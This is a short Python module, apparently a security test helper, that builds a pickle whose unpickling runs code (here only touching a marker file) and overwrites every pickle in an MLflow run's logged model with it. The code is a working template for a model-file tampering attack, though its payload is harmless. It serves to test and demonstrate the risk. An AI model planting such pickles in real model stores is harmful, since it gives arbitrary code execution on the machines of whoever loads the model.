"""A logged model whose pickles would run code when loaded: the attack on model files."""

from __future__ import annotations

import pickle
import zipfile
from pathlib import Path
from urllib.parse import urlparse


class TouchOnUnpickle:
    """Unpickling this creates `marker`: proof that code from the file ran."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def code_running_pickle(marker: Path) -> bytes:
    return pickle.dumps(TouchOnUnpickle(marker))


def is_pickle(path: Path) -> bool:
    """A raw pickle (protocol 2+ starts with 0x80), or a torch zip holding one."""
    if path.read_bytes()[:1] == b"\x80":
        return True
    return zipfile.is_zipfile(path) and any(
        name.endswith(".pkl") for name in zipfile.ZipFile(path).namelist()
    )


def tamper_logged_model(client, run_id: str, marker: Path) -> list[Path]:
    """Replace every pickle of the run's logged MLflow model with one that creates
    `marker`; return the files replaced."""
    model_id = client.get_run(run_id).outputs.model_outputs[-1].model_id
    folder = Path(urlparse(client.get_logged_model(model_id).artifact_location).path)
    replaced = [path for path in sorted(folder.rglob("*")) if path.is_file() and is_pickle(path)]
    for path in replaced:
        path.write_bytes(code_running_pickle(marker))
    return replaced
